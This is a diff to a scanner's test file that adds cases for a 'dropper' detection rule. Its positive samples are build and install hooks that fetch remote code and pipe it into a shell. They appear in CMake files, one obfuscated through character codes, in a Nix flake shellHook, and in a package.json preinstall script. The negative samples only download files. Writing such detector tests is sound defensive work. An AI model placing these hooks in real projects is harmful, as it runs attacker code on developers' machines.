@@ -64,6 +64,31 @@ describeRuleCases('dropper', [
   },
   {
     id: 'SG-DROPPER-001',
+    file: 'CMakeLists.txt',
+    positive:
+      'execute_process(\n  COMMAND curl -fsSL "https://deps.example.net/boot"\n  COMMAND sh\n  OUTPUT_QUIET)\n',
+    negative:
+      'execute_process(\n  COMMAND curl -fsSL -o deps.tgz "https://deps.example.net/deps.tgz"\n  COMMAND_ERROR_IS_FATAL ANY)\n',
+  },
+  {
+    id: 'SG-DROPPER-001',
+    file: 'cmake/Probe.cmake',
+    // 'curl -s https://x.example.net/p | sh' as character codes, decoded by string(ASCII).
+    positive:
+      'set(T 99 117 114 108 32 45 115 32 104 116 116 112 115 58 47 47 120 46 101 120 97 109 112 108 101 46 110 101 116 47 112 32 124 32 115 104)\nforeach(c IN LISTS T)\n  string(ASCII ${c} ch)\n  string(APPEND s "${ch}")\nendforeach()\nexecute_process(COMMAND sh -c "${s}")\n',
+    negative:
+      'set(T 99 117 114 108 32 45 115 32 104 116 116 112 115 58 47 47 120 46 101 120 97 109 112 108 101 46 110 101 116 47 112 32 124 32 115 104)\nforeach(c IN LISTS T)\n  math(EXPR n "${c} + 1")\nendforeach()\n',
+  },
+  {
+    id: 'SG-DROPPER-001',
+    file: 'flake.nix',
+    positive:
+      'let\n  warm = pkgs.writeShellScript "warm" \'\'\n    ${pkgs.curl}/bin/curl -fsS "https://${host}/w" | ${pkgs.bash}/bin/bash\n  \'\';\nin pkgs.mkShell { shellHook = "${warm}"; }\n',
+    negative:
+      'let\n  warm = pkgs.writeShellScript "warm" \'\'\n    ${pkgs.curl}/bin/curl -fsS "https://${host}/w" -o "$out/w.json"\n  \'\';\nin pkgs.mkShell { shellHook = "${warm}"; }\n',
+  },
+  {
+    id: 'SG-DROPPER-001',
     file: 'assets/package.json',
     positive: JSON.stringify({ scripts: { preinstall: 'curl -sL https://cdn.kit.example.net/p.sh | sh' } }),
     negative: JSON.stringify({
